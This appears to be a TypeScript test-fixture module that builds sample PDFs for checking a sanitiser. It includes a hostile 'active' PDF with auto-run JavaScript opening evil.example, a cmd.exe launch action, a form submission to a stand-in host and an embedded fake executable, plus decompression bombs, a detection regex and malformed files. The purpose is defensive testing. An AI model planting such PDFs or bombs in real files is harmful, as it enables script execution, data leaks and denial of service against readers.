import { constants, deflateSync, inflateSync } from 'node:zlib';
import {
  grayscale,
  type PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  type PDFObject,
  PDFString,
  StandardFonts,
} from '@cantoo/pdf-lib';

/** PDFs as teams have them, and as attackers make them. */

const name = PDFName.of;
type Values = { [key: string]: Values | Values[] | string | number | PDFObject };

/** In points. */
export const a4: [number, number] = [595, 842];

/** In points. Any page is drawn 2560 pixels wide: a poster of this one takes 1 s of processor time, one of A4 takes 1.6 s. */
const flat: [number, number] = [842, 200];

/** The first page says `text`, the others their number. */
export async function aPdf({ text = 'A poster about clean water', pages = 1, size = flat } = {}): Promise<Buffer> {
  return bytesOf(await aDocument({ text, pages, size }));
}

/** The upper part of A1 that lies, in points. */
export const flatSheet: [number, number] = [2384, 600];

/** A poster of lines, each of a size in points, and of a gray from 0 (black) to 1 on white. */
export async function aPosterPdf(lines: { text: string; size: number; gray?: number }[]): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage(flatSheet);
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (const [at, { text, size: points, gray = 0 }] of lines.entries())
    page.drawText(text, { x: 40, y: flatSheet[1] - 100 * (at + 1), size: points, font, color: grayscale(gray) });
  return bytesOf(document);
}

/** A poster that is nothing but a picture, as programs that draw make them, and scanners. */
export async function aScannedPdf(picture: Buffer): Promise<Buffer> {
  const document = await PDFDocument.create();
  const [width, height] = flatSheet;
  document.addPage(flatSheet).drawImage(await document.embedJpg(picture), { x: 0, y: 0, width, height });
  return bytesOf(document);
}

async function aDocument({ text = 'A poster', pages = 1, size = flat } = {}): Promise<PDFDocument> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let number = 1; number <= pages; number += 1) {
    document.addPage(size).drawText(number === 1 ? text : `Page ${number}`, { x: 40, y: size[1] - 80, size: 30, font });
  }
  return document;
}

async function bytesOf(document: PDFDocument): Promise<Buffer> {
  return Buffer.from(await document.save());
}

/** What a PDF may do by itself or when it is clicked, and what it may tell about its author. */
export async function anActivePdf(): Promise<Buffer> {
  const document = await aDocument({ text: 'An active poster' });
  const { context, catalog } = document;
  const page = document.getPage(0).node;
  const script: Values = { Type: 'Action', S: 'JavaScript', JS: PDFString.of("app.launchURL('https://evil.example')") };
  document.setAuthor('Secret Author');
  document.setProducer('Secret Producer');
  document.addJavaScript('start', "app.alert('hello')");
  await document.attach(Buffer.from('MZ evil'), 'evil.exe', { mimeType: 'application/x-msdownload' });
  const set = (dict: PDFDict, key: string, value: Values) =>
    dict.set(name(key), context.register(context.obj(value as { [key: string]: PDFObject })));
  set(catalog, 'OpenAction', script);
  set(catalog, 'AA', { WC: script });
  set(catalog, 'AcroForm', { Fields: [], XFA: PDFString.of('<xdp/>') });
  set(catalog, 'Metadata', { Type: 'Metadata', Author: PDFString.of('Secret Author') });
  set(page, 'AA', { O: script });
  set(page, 'PieceInfo', { Illustrator: { Private: PDFString.of('Secret draft') } });
  const annotation = (Subtype: string, more: Values) =>
    context.register(
      context.obj({ Type: 'Annot', Subtype, Rect: [0, 0, 500, 500], ...more } as unknown as { [key: string]: PDFObject }),
    );
  const actions: Values[] = [
    { S: 'URI', URI: PDFString.of('https://evil.example') },
    { S: 'Launch', F: PDFString.of('cmd.exe') },
    { S: 'SubmitForm', F: PDFString.of('https://evil.example') },
    { S: 'GoToR', F: PDFString.of('other.pdf') },
    script,
  ];
  const links = actions.map((A) => annotation('Link', { A }));
  page.set(name('Annots'), context.obj([...links, annotation('RichMedia', {}), annotation('FileAttachment', {})]));
  // What it hides among that which says how a page looks.
  const resources = page.Resources() as PDFDict;
  set(resources, 'Properties', {
    JS: script,
    MC0: { ...script, AF: script },
    MC1: { Type: 'OCG', Name: PDFString.of('Secret layer') },
    MC2: { Type: 'OCG', Name: PDFHexString.fromText('Secret layer') },
  });
  set(resources, 'ExtGState', { GS0: { ...script, AA: script, A: script, EditedBy: PDFString.of('Secret editor') } });
  return bytesOf(document);
}

/** A PDF on whose page somebody put a red square as a stamp, as programs that view PDFs do. */
export async function aStampedPdf(): Promise<Buffer> {
  const document = await aDocument({ text: 'Stamped', size: a4 });
  const { context } = document;
  const form = { Type: 'XObject', Subtype: 'Form', BBox: [0, 0, 10, 10], Matrix: [1, 0, 0, 1, 5, 5] };
  const look = context.register(context.stream('1 0 0 rg 0 0 10 10 re f', form));
  const stamp = { Type: 'Annot', Subtype: 'Stamp', Rect: [100, 100, 300, 300], AP: { N: look } };
  const hidden = { ...stamp, Rect: [300, 300, 500, 500], F: 2 };
  const annotations = [stamp, hidden].map((one) => context.register(context.obj(one)));
  document.getPage(0).node.set(name('Annots'), context.obj(annotations));
  return bytesOf(document);
}

/** A PDF that only opens with a password, or that opens without one but restricts its use. */
export async function aLockedPdf(passwords: { userPassword?: string; ownerPassword: string }): Promise<Buffer> {
  const document = await aDocument();
  document.encrypt({ userPassword: '', ...passwords });
  return bytesOf(document);
}

/** A PDF of one page whose content, resources and further objects are given as text of the format. */
export function aRawPdf(content: string | Buffer, resources: string, objects: readonly (string | Buffer)[] = []): Buffer {
  const own = [
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<<${resources}>>>>`,
    typeof content === 'string' ? stream('', content) : content,
  ];
  const parts = [...own, ...objects].flatMap((object, index) => [`${index + 1} 0 obj\n`, object, '\nendobj\n']);
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
    Buffer.from('trailer<</Root 1 0 R>>\n%%EOF\n'),
  ]);
}

/** The number of the first of the further objects of `aRawPdf`. */
const first = 5;

function stream(keys: string, body: string | Buffer): Buffer {
  const bytes = Buffer.from(body);
  return Buffer.concat([Buffer.from(`<<${keys}/Length ${bytes.length}>>stream\n`), bytes, Buffer.from('\nendstream')]);
}

/** Files of which each asks for time or memory without end. */
export const bombs: Record<string, () => Buffer> = {
  'drawings that draw each other ten times, twelve deep': () => {
    const depth = 12;
    const forms = Array.from({ length: depth }, (_, level) => {
      const inner = level === depth - 1 ? '' : `/Resources<</XObject<</X ${first + level + 1} 0 R>>>>`;
      const content = level === depth - 1 ? '0 0 600 800 re f' : '/X Do '.repeat(10);
      return stream(`/Type/XObject/Subtype/Form/BBox[0 0 600 800]${inner}`, content);
    });
    return aRawPdf('/X Do', `/XObject<</X ${first} 0 R>>`, forms);
  },
  'a colour that takes ten thousand steps to find, for each pixel': () => {
    const steps = `{${'dup mul 0.5 add '.repeat(10_000)}pop dup 0 exch}`;
    return aRawPdf(
      '/S sh',
      `/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Matrix[600 0 0 800 0 0]/Function ${first} 0 R>>>>`,
      [stream('/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]', steps)],
    );
  },
  'ten million lines': () => {
    const lines = deflateSync(Buffer.alloc(180 * 1024 * 1024, '0 0 m 600 800 l S\n'), { level: 1 });
    return aRawPdf(stream('/Filter/FlateDecode', lines), '');
  },
  'objects that unpack to gigabytes': () => {
    const once = deflateSync(Buffer.alloc(512 * 1024 * 1024, ' '), { level: 1 });
    const twice = deflateSync(Buffer.concat(Array.from({ length: 8 }, () => once)));
    return aRawPdf('', '', [stream('/Type/ObjStm/N 1/First 8/Filter[/FlateDecode/FlateDecode]', twice)]);
  },
};

/** Files that are not as they should be. */
export const oddPdfs = {
  'lists in lists, a million deep': () => aRawPdf('', '', ['['.repeat(1_000_000) + ']'.repeat(1_000_000)]),
  'pages that contain themselves': () => pagesOf('[2 0 R]', 1),
  'no page': () => pagesOf('[]', 0),
} as const;

function pagesOf(kids: string, count: number): Buffer {
  const objects = ['<</Type/Catalog/Pages 2 0 R>>', `<</Type/Pages/Kids${kids}/Count ${count}>>`];
  const text = objects.map((object, index) => `${index + 1} 0 obj${object}endobj\n`).join('');
  return Buffer.from(`%PDF-1.7\n${text}trailer<</Root 1 0 R>>`);
}

/**
 * Everything that a PDF says: its objects, unpacked, with its names as they are meant. It knows nothing of the library that
 * writes our PDFs.
 */
export function saidBy(file: Buffer): string {
  const text = file.toString('latin1');
  const streams = Array.from(text.matchAll(/stream\r?\n(.*?)endstream/gs), ([, body = '']) => {
    try {
      return inflateSync(Buffer.from(body, 'latin1'), { finishFlush: constants.Z_SYNC_FLUSH }).toString('latin1');
    } catch {
      return body;
    }
  });
  return [text, ...streams].join('\n').replace(/#([0-9a-f]{2})/gi, (_, hex) => String.fromCharCode(Number.parseInt(hex, 16)));
}

/** What `anActivePdf` says and no PDF for visitors may: names that act, and who made it. */
export const forbidden =
  /\/(?:JavaScript|JS|OpenAction|AA|A|AF|Launch|URI|SubmitForm|GoToR|EmbeddedFiles?|EF|Filespec|RichMedia|FileAttachment|AcroForm|XFA|Annots?|Names|Metadata|PieceInfo|Info|Author|Producer)\b|evil|Secret|0053006500630072|cmd\.exe/g;
